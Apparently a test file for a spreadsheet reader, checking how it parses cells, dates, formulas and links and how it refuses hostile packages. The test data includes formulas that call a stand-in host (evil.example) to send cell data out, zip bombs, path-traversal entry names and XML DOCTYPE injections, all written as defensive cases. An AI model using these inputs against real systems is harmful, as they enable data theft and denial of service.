@@ -1,0 +1,432 @@
+import { utils, write as writeBook } from '@e965/xlsx'
+import { describe, expect, test } from 'vitest'
+import { showInstant } from '../time.ts'
+import { cellPosition, cellText, columnLetters, linkText } from './cells.ts'
+import type { SheetRow } from './cells.ts'
+import { checkWorkbook, isWorkbookName } from './check.ts'
+import { headerKey, readHeader, splitHeader } from './header.ts'
+import { limits } from './limits.ts'
+import type { WorkbookLimits } from './limits.ts'
+import { WorkbookProblem } from './problem.ts'
+import { sheetRows } from './rows.ts'
+import { partsOf, textRow, workbookOf, zipOf } from './zip-fixture.ts'
+
+async function rowsOf(bytes: Uint8Array, changed: Partial<WorkbookLimits> = {}): Promise<SheetRow[]> {
+  const rows: SheetRow[] = []
+  for await (const row of sheetRows(bytes, { ...limits, ...changed })) rows.push(row)
+  return rows
+}
+
+async function problemOf(bytes: Uint8Array, changed: Partial<WorkbookLimits> = {}): Promise<WorkbookProblem> {
+  const outcome = await rowsOf(bytes, changed).catch((error: unknown) => error)
+  if (!(outcome instanceof WorkbookProblem)) throw new Error(`Not refused: ${JSON.stringify(outcome)}`)
+  return outcome
+}
+
+const asyncOf = async function* <Item>(items: readonly Item[]): AsyncGenerator<Item, void, undefined> {
+  yield* items
+}
+
+describe('cells of an .xlsx', () => {
+  test('text is exact: inline, shared, rich, with line breaks, entities and signs beyond the first plane', async () => {
+    const [first] = await rowsOf(
+      workbookOf({
+        sharedTexts:
+          '<si><t xml:space="preserve"> H₂O &amp; v⃗ \nm/s² </t></si><si><r><rPr><b/></rPr><t>bold</t></r><r><t xml:space="preserve"> and 𝛼</t></r><rPh sb="0" eb="1"><t>no</t></rPh></si>',
+        rows: '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c r="C1" t="inlineStr"><is><t>00100001</t></is></c><c r="D1" t="inlineStr"><is><r><t>x</t></r><r><t>²</t></r></is></c><c r="E1" t="inlineStr"><is><t>a_x000D_b_x005F_x0041_</t></is></c><c r="F1" t="str"><v>&#x1F600;</v></c></row>',
+      }),
+    )
+    expect(first?.cells).toEqual([' H₂O & v⃗ \nm/s² ', 'bold and 𝛼', '00100001', 'x²', 'a\rb_x0041_', '😀'])
+  })
+
+  test('numbers, truth values and errors keep their kind; blanks are null and end a row', async () => {
+    const [first] = await rowsOf(
+      workbookOf({
+        rows: '<row r="3"><c r="A3"><v>30010001</v></c><c r="B3"><v>1.5E-3</v></c><c r="C3" t="b"><v>1</v></c><c r="D3" t="e"><v>#N/A</v></c><c r="E3" t="inlineStr"><is><t> \n </t></is></c><c r="F3" s="0"/><c r="G3"><v>1000000000000000</v></c><c r="H3"/><c r="I3" t="inlineStr"><is><t></t></is></c></row>',
+      }),
+    )
+    expect(first).toEqual({ row: 3, cells: [30010001, 0.0015, true, { error: '#N/A' }, null, null, 1e15] })
+    expect(first?.cells.map(cellText)).toEqual(['30010001', '0.0015', 'TRUE', '#N/A', '', '', '1000000000000000'])
+  })
+
+  test('numbers as text are whole, without exponent, and with the 15 digits of Excel', () => {
+    expect([1e21, -5, 0.1 + 0.2, 1.1000000000000001, 123456789012345].map(cellText)).toEqual([
+      '1000000000000000000000',
+      '-5',
+      '0.3',
+      '1.1',
+      '123456789012345',
+    ])
+  })
+
+  test.each([
+    [false, 46041.4375, '19/01/2026 10:30 am'],
+    [true, 44579.4375, '19/01/2026 10:30 am'],
+    [false, 46041.438194444447, '19/01/2026 10:31 am'],
+    [false, 46041.4381944444, '19/01/2026 10:31 am'],
+    [false, 61, '01/03/1900 12:00 am'],
+    [false, 1, '01/01/1900 12:00 am'],
+    [true, 0, '01/01/1904 12:00 am'],
+  ])('a date cell is the instant of its wall time in Asia/Kolkata (1904: %s, %s)', async (date1904, serial, shown) => {
+    const [first] = await rowsOf(
+      workbookOf({ date1904, formats: ['dd/mm/yyyy hh:mm'], rows: `<row r="1"><c r="A1" s="1"><v>${serial}</v></c></row>` }),
+    )
+    const cell = first?.cells[0]
+    expect(cell).toBeInstanceOf(Date)
+    expect(cellText(cell)).toBe(shown)
+    expect(Math.abs((cell as Date).getTime() % 1000)).toBe(0)
+  })
+
+  test('only date formats make dates', async () => {
+    const formats = ['0.00 "days"', '[Red]#,##0', '#,##0.00 [$USD]', '0.0E+00', 'd-mmm', '[h]:mm', 'yyyy']
+    const rows = `<row r="1">${formats.map((_, index) => `<c r="${columnLetters(index)}1" s="${index + 1}"><v>40000</v></c>`).join('')}</row>`
+    const [first] = await rowsOf(workbookOf({ formats, rows }))
+    expect(first?.cells.map((cell) => cell instanceof Date)).toEqual([false, false, false, false, true, true, true])
+  })
+
+  test('a date beyond the calendar is an error cell, not a crash', async () => {
+    const [first] = await rowsOf(workbookOf({ formats: ['yyyy'], rows: '<row r="1"><c r="A1" s="1"><v>1e15</v></c></row>' }))
+    expect(first?.cells).toEqual([{ error: '#NUM!' }])
+  })
+
+  test.each(['', 'x'])(
+    'formulas are never evaluated: the stored result, else the formula as text (prefix "%s")',
+    async (prefix) => {
+      const of = prefix === '' ? '' : 'x:'
+      const cell = (ref: string, content: string, type = ''): string => `<${of}c r="${ref}"${type}>${content}</${of}c>`
+      const [first] = await rowsOf(
+        workbookOf({
+          ...(prefix === '' ? {} : { prefix }),
+          rows: `<${of}row r="1">${[
+            cell('A1', `<${of}f>1+1</${of}f><${of}v>2</${of}v>`),
+            cell('B1', `<${of}f>"a"&amp;A1</${of}f>`),
+            cell('C1', `<${of}f>WEBSERVICE("https://evil.example/")</${of}f><${of}v></${of}v>`, ' t="str"'),
+            cell('D1', `<${of}f t="shared" si="0"/><${of}v>7</${of}v>`),
+            cell('E1', `<${of}is><${of}t>=1+1</${of}t></${of}is>`, ' t="inlineStr"'),
+            cell(
+              'F1',
+              `<${of}f>HYPERLINK("https://content.example/a?b=1&amp;c=2","Open")</${of}f><${of}v>Open</${of}v>`,
+              ' t="str"',
+            ),
+            cell('G1', `<${of}f>HYPERLINK("https://evil.example/?"&amp;A1,"Open")</${of}f><${of}v>Open</${of}v>`, ' t="str"'),
+          ].join('')}</${of}row>`,
+        }),
+      )
+      expect(first?.cells).toEqual([2, '="a"&A1', '=WEBSERVICE("https://evil.example/")', 7, '=1+1', 'Open', 'Open'])
+      expect([...(first?.links ?? [])]).toEqual([[5, 'https://content.example/a?b=1&c=2']])
+    },
+  )
+
+  test('formulas and links are found wherever the pieces of a long sheet are cut', async () => {
+    const count = 30_000
+    const text = 'the same long words of a question, again and again, '
+    const rows = Array.from({ length: count }, (_, index) => {
+      const row = index + 1
+      return `<row r="${row}"><c r="A${row}" t="inlineStr"><is><t>${text}${index}</t></is></c><c r="B${row}"><f>ROW()+${index}</f></c><c r="C${row}" t="inlineStr"><is><t>Open</t></is></c></row>`
+    }).join('')
+    const after = `<hyperlinks>${Array.from({ length: count }, (_, index) => `<hyperlink ref="C${index + 1}" r:id="rId${index + 1}"/>`).join('')}</hyperlinks>`
+    const links = Array.from({ length: count }, (_, index) => `https://content.example/${index}`)
+    const found = await rowsOf(workbookOf({ rows, after, links }))
+    expect(found).toHaveLength(count)
+    const wrong = found.filter(
+      ({ row, cells, links: ofRow }) =>
+        cells[1] !== `=ROW()+${row - 1}` || ofRow?.get(2) !== `https://content.example/${row - 1}`,
+    )
+    expect(wrong).toEqual([])
+  })
+
+  test('a hyperlink gives its target where the text is no address', async () => {
+    const [first] = await rowsOf(
+      workbookOf({
+        rows: textRow(1, ['Open', 'https://content.example/2', 'https://shown.example', 'plain', 'r1', 'r2']),
+        after:
+          '<hyperlinks><hyperlink ref="A1" r:id="rId1"/><hyperlink ref="B1" r:id="rId2"/><hyperlink ref="C1" r:id="rId3"/><hyperlink ref="D1" location="Sheet2!A1"/><hyperlink ref="E1:XFD1048576" r:id="rId4"/></hyperlinks>',
+        links: [
+          'https://content.example/1?a=1&b=2',
+          'https://content.example/2',
+          'https://hidden.example',
+          'https://content.example/range',
+        ],
+      }),
+    )
+    if (first === undefined) throw new Error('no row')
+    expect([...(first.links ?? [])]).toEqual([
+      [0, 'https://content.example/1?a=1&b=2'],
+      [2, 'https://hidden.example'],
+      [4, 'https://content.example/range'],
+      [5, 'https://content.example/range'],
+    ])
+    expect([0, 1, 2, 3, 4].map((column) => linkText(first, column))).toEqual([
+      'https://content.example/1?a=1&b=2',
+      'https://content.example/2',
+      'https://shown.example',
+      'plain',
+      'https://content.example/range',
+    ])
+  })
+
+  test('rows keep their sheet numbers, blank ones are left out, and merges build nothing', async () => {
+    const rows = await rowsOf(
+      workbookOf({
+        rows: `${textRow(1, ['a'])}<row r="2"/>${textRow(4, ['', ' '])}<row r="5"><c r="A5" s="0"/></row>${textRow(9, ['b'])}<row r="1048576"><c r="XFD1048576" s="0"/></row>`,
+        after: '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
+      }),
+    )
+    expect(rows).toEqual([
+      { row: 1, cells: ['a'] },
+      { row: 9, cells: ['b'] },
+    ])
+  })
+
+  test('the first visible sheet is read, wherever its part lies', async () => {
+    const parts = partsOf({ rows: textRow(1, ['hidden']) }).map((part) => {
+      if (part.name === 'xl/workbook.xml')
+        return {
+          ...part,
+          content: String(part.content).replace(
+            '<sheet name="One" sheetId="1" r:id="rId1"/>',
+            '<sheet name="Old" sheetId="1" state="veryHidden" r:id="rId1"/><sheet name="a>b" sheetId="2" r:id="rId9"/>',
+          ),
+        }
+      if (part.name === 'xl/_rels/workbook.xml.rels')
+        return {
+          ...part,
+          content: String(part.content).replace(
+            '</Relationships>',
+            '<Relationship Id="rId9" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/worksheet" Target="/xl/Sheets/Data.xml"/></Relationships>',
+          ),
+        }
+      return part
+    })
+    const sheet = String(parts.find(({ name }) => name.endsWith('sheet1.xml'))?.content).replace('hidden', 'seen')
+    expect(await rowsOf(zipOf([...parts, { name: 'xl/sheets/data.xml', content: sheet }]))).toEqual([{ row: 1, cells: ['seen'] }])
+  })
+
+  test('reading may be ended early', async () => {
+    const bytes = workbookOf({ rows: Array.from({ length: 20_000 }, (_, index) => textRow(index + 1, ['a', 'b', 'c'])).join('') })
+    let seen = 0
+    for await (const row of sheetRows(bytes)) {
+      seen = row.row
+      if (seen === 10) break
+    }
+    expect(seen).toBe(10)
+  })
+})
+
+describe('an .xls', () => {
+  const legacy = (date1904 = false): Uint8Array => {
+    const sheet = utils.aoa_to_sheet([
+      ['question_id', 'when', 'ok', 'link', 'sum', 'wrong', 'text'],
+      [30010001, 46041.4375 - (date1904 ? 1462 : 0), true, 'Open', 3, null, '00100001 H₂O\nsecond'],
+    ])
+    sheet['!ref'] = 'A1:G5'
+    sheet['B2'].z = 'dd/mm/yyyy hh:mm'
+    sheet['F2'] = { t: 'e', v: 0x2a }
+    sheet['D2'].l = { Target: 'https://content.example/1' }
+    sheet['A5'] = { t: 's', v: 'last' }
+    const book = utils.book_new()
+    utils.book_append_sheet(book, sheet, 'One')
+    book.Workbook = { WBProps: { date1904 } }
+    return writeBook(book, { type: 'buffer', bookType: 'biff8' }) as Uint8Array
+  }
+
+  test.each([false, true])('gives the same kinds of cells (1904: %s)', async (date1904) => {
+    const rows = await rowsOf(legacy(date1904))
+    expect(rows.map(({ row }) => row)).toEqual([1, 2, 5])
+    const [, second] = rows
+    expect(second?.cells[0]).toBe(30010001)
+    expect(showInstant(second?.cells[1] as Date)).toBe('19/01/2026 10:30 am')
+    expect(second?.cells.slice(2)).toEqual([true, 'Open', 3, { error: '#N/A' }, '00100001 H₂O\nsecond'])
+    expect([...(second?.links ?? [])]).toEqual([[3, 'https://content.example/1']])
+  })
+
+  test('a damaged one is refused', async () => {
+    expect((await problemOf(legacy().subarray(0, 600))).code).toBe('DAMAGED')
+  })
+})
+
+describe('limits', () => {
+  test.each<[string, Partial<WorkbookLimits>, string, string]>([
+    [textRow(1, ['a']) + textRow(2, ['b']) + textRow(3, ['c']), { rows: 1 }, 'TOO_MANY_ROWS', ''],
+    [textRow(1, ['a', 'b', 'c']), { columns: 2 }, 'TOO_MANY_COLUMNS', 'row 1'],
+    [textRow(1, ['name']) + textRow(4, ['four4']), { cellCharacters: 4 }, 'CELL_TOO_LONG', 'row 4, name'],
+    [textRow(1, ['name']), { bytes: 10 }, 'TOO_BIG', ''],
+    [textRow(1, ['name']), { entries: 3 }, 'UNPACKS_TOO_LARGE', ''],
+    [textRow(1, ['name']), { inflatedBytes: 300 }, 'UNPACKS_TOO_LARGE', ''],
+  ])('%# is refused with its limit', async (rows, changed, code, path) => {
+    const problem = await problemOf(workbookOf({ rows }), changed)
+    expect([problem.code, problem.issues[0]?.path ?? '']).toEqual([code, path])
+    expect(problem.message).not.toMatch(/[{}]/)
+  })
+
+  test('what is exactly at the limits is read', async () => {
+    const rows = textRow(1, ['a', 'b']) + textRow(2, ['four', 'b'])
+    expect(await rowsOf(workbookOf({ rows }), { rows: 1, columns: 2, cellCharacters: 4 })).toHaveLength(2)
+  })
+
+  test('shared texts beyond their limit are refused before they unpack', async () => {
+    const bytes = workbookOf({ sharedTexts: '<si><t>a</t></si>', rows: '<row r="1"><c r="A1" t="s"><v>0</v></c></row>' })
+    expect((await problemOf(bytes, { sharedTextBytes: 20 })).code).toBe('TOO_MUCH_MEMORY')
+  })
+})
+
+describe('hostile and damaged packages', () => {
+  const plain = { rows: textRow(1, ['a']) }
+  const bomb = Buffer.alloc(3_000_000, 'a')
+
+  test.each<[string, Buffer, string]>([
+    ['text', Buffer.from('sr_no,question_id\n1,2\n'), 'NOT_A_WORKBOOK'],
+    ['nothing', Buffer.alloc(0), 'NOT_A_WORKBOOK'],
+    ['a zip of other things', zipOf([{ name: 'a.txt', content: 'a' }]), 'NOT_A_WORKBOOK'],
+    ['a cut file', workbookOf(plain).subarray(0, -30), 'DAMAGED'],
+    ['a compound file of nothing', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]), 'DAMAGED'],
+    [
+      'a part that unpacks too well',
+      workbookOf({ ...plain, more: [{ name: 'xl/media/a.bin', content: bomb }] }),
+      'UNPACKS_TOO_LARGE',
+    ],
+    [
+      'parts that share data',
+      workbookOf({ ...plain, more: [{ name: '_rels/.rels2', localName: '_rels/.rels', content: '', shareWith: 1 }] }),
+      'UNSAFE',
+    ],
+    ['a part twice', workbookOf({ ...plain, more: [{ name: 'XL/workbook.xml', content: '<workbook/>' }] }), 'UNSAFE'],
+    ['a climbing name', workbookOf({ ...plain, more: [{ name: 'xl/../../a.txt', content: 'a' }] }), 'UNSAFE'],
+    ['an absolute name', workbookOf({ ...plain, more: [{ name: '/tmp/a.txt', content: 'a' }] }), 'UNSAFE'],
+    ['a drive', workbookOf({ ...plain, more: [{ name: 'C:a.txt', content: 'a' }] }), 'UNSAFE'],
+    ['a backslash', workbookOf({ ...plain, more: [{ name: '..\\a.txt', content: 'a' }] }), 'UNSAFE'],
+    ['two names', workbookOf({ ...plain, more: [{ name: 'a.txt', localName: 'b.txt', content: 'a' }] }), 'UNSAFE'],
+    ['an encrypted part', workbookOf({ ...plain, more: [{ name: 'a.txt', content: 'a', flags: 1 }] }), 'PASSWORD_PROTECTED'],
+    ['a document type', workbookOf({ ...plain, prolog: '<!DOCTYPE worksheet [<!ENTITY a "b">]>' }), 'UNSAFE'],
+    ['one behind a comment', workbookOf({ ...plain, prolog: `<!-- <a> ${'x'.repeat(5000)} --><!DOCTYPE worksheet>` }), 'UNSAFE'],
+    [
+      'one behind noise',
+      workbookOf({ ...plain, prolog: `<!-- <a> ${zipOf(partsOf(plain)).toString('hex').repeat(4)} --><!DOCTYPE a>` }),
+      'UNSAFE',
+    ],
+    [
+      'one in another part',
+      workbookOf({ ...plain, more: [{ name: 'docProps/core.xml', content: '<!DOCTYPE a><a/>' }] }),
+      'UNSAFE',
+    ],
+    [
+      'a part in UTF-16',
+      workbookOf({ ...plain, more: [{ name: 'docProps/core.xml', content: Buffer.from('<!DOCTYPE a><a/>', 'utf16le') }] }),
+      'UNSAFE',
+    ],
+    [
+      'a wrong checksum',
+      zipOf(partsOf(plain).map((part) => (part.name.endsWith('sheet1.xml') ? { ...part, crc: 1 } : part))),
+      'DAMAGED',
+    ],
+    [
+      'a size that lies',
+      zipOf(partsOf(plain).map((part) => (part.name.endsWith('sheet1.xml') ? { ...part, size: 40 } : part))),
+      'DAMAGED',
+    ],
+    [
+      'a sheet that breaks off',
+      zipOf(
+        partsOf(plain).map((part) =>
+          part.name.endsWith('sheet1.xml') ? { ...part, content: String(part.content).slice(0, -20) } : part,
+        ),
+      ),
+      'DAMAGED',
+    ],
+    ['rows out of order', workbookOf({ rows: textRow(2, ['a']) + textRow(1, ['b']) }), 'DAMAGED'],
+    ['a row that is no number', workbookOf({ rows: '<row r="x"><c t="b"><v>1</v></c></row>' }), 'DAMAGED'],
+    ['a sheet that is missing', zipOf(partsOf(plain).filter(({ name }) => !name.endsWith('sheet1.xml'))), 'DAMAGED'],
+  ])('%s is refused', async (_, bytes, code) => {
+    expect((await problemOf(bytes)).code).toBe(code)
+  })
+
+  test('a size that lies does not let a bomb unpack', async () => {
+    const parts = partsOf(plain).map((part) =>
+      part.name.endsWith('sheet1.xml')
+        ? { ...part, content: `${String(part.content)}${' '.repeat(50_000_000)}`, size: 900 }
+        : part,
+    )
+    const bytes = zipOf(parts)
+    const before = process.memoryUsage().rss
+    expect((await problemOf(bytes)).code).toBe('DAMAGED')
+    expect(process.memoryUsage().rss - before).toBeLessThan(40_000_000)
+  })
+
+  test('bytes behind the first that is no zip do not crash the check, wherever they are changed', () => {
+    const bytes = workbookOf(plain)
+    for (let at = 4; at < bytes.length; at++) {
+      const changed = Buffer.from(bytes)
+      changed[at] = (changed[at] ?? 0) ^ 0xff
+      try {
+        checkWorkbook(changed)
+      } catch (error) {
+        if (!(error instanceof WorkbookProblem)) throw error
+      }
+    }
+    expect(checkWorkbook(bytes).kind).toBe('xlsx')
+  })
+})
+
+describe('the header', () => {
+  test('names are recognised by their key and keep their spelling', () => {
+    expect(['Question ID', 'question_id', ' question-id\u200b', 'QUESTION\nID'].map(headerKey)).toEqual(
+      Array(4).fill('questionid'),
+    )
+    expect(readHeader([' Question ID ', null, 'page', 7])).toEqual([
+      { name: 'Question ID', key: 'questionid', column: 0, letters: 'A' },
+      { name: 'page', key: 'page', column: 2, letters: 'C' },
+      { name: '7', key: '7', column: 3, letters: 'D' },
+    ])
+  })
+
+  test('repeated names and errors are named by their columns', () => {
+    const refused = (): unknown => readHeader(['subject', 'Chapter ', 'subject', 'chapter', { error: '#REF!' }])
+    expect(refused).toThrow(WorkbookProblem)
+    try {
+      refused()
+    } catch (error) {
+      expect((error as WorkbookProblem).issues.map(({ column, message }) => [column, message])).toEqual([
+        ['C', 'Columns A and C are both named "subject". Keep one of them.'],
+        ['D', 'Columns B "Chapter" and D "chapter" have the same name. Keep one of them.'],
+        ['E', 'Column E is headed by the error #REF!. Write its name.'],
+      ])
+    }
+  })
+
+  test('values under no name are refused after the last row', async () => {
+    const { header, rows } = await splitHeader(
+      asyncOf<SheetRow>([
+        { row: 1, cells: ['a', null, 'c'] },
+        { row: 2, cells: ['1'] },
+        { row: 3, cells: ['1', 'stray', '2', 'stray'] },
+      ]),
+    )
+    expect(header.map(({ letters }) => letters)).toEqual(['A', 'C'])
+    const seen: number[] = []
+    const reading = async (): Promise<void> => {
+      for await (const { row } of rows) seen.push(row)
+    }
+    await expect(reading()).rejects.toMatchObject({ code: 'BAD_HEADER', issues: [{ column: 'B' }, { column: 'D' }] })
+    expect(seen).toEqual([2, 3])
+  })
+
+  test('no row 1 and no rows are refused', async () => {
+    await expect(splitHeader(asyncOf<SheetRow>([{ row: 2, cells: ['a'] }]))).rejects.toMatchObject({ code: 'NO_HEADER' })
+    await expect(splitHeader(asyncOf<SheetRow>([]))).rejects.toMatchObject({ code: 'NO_HEADER' })
+    const { rows } = await splitHeader(asyncOf<SheetRow>([{ row: 1, cells: ['a'] }]))
+    await expect(rows.next()).rejects.toMatchObject({ code: 'NO_ROWS' })
+  })
+})
+
+test('columns have letters and back', () => {
+  expect([0, 25, 26, 701, 702, 16_383].map(columnLetters)).toEqual(['A', 'Z', 'AA', 'ZZ', 'AAA', 'XFD'])
+  expect([cellPosition('XFD1048576'), cellPosition('$B$2'), cellPosition('2B')]).toEqual([
+    { column: 16_383, row: 1_048_576 },
+    { column: 1, row: 2 },
+    undefined,
+  ])
+})
+
+test('names of workbooks end in .xlsx or .xls', () => {
+  expect(['a.xlsx', 'A.XLS', 'a.xlsm', '.xlsx', 'a.xlsx.exe'].map(isWorkbookName)).toEqual([true, true, false, false, false])
+})
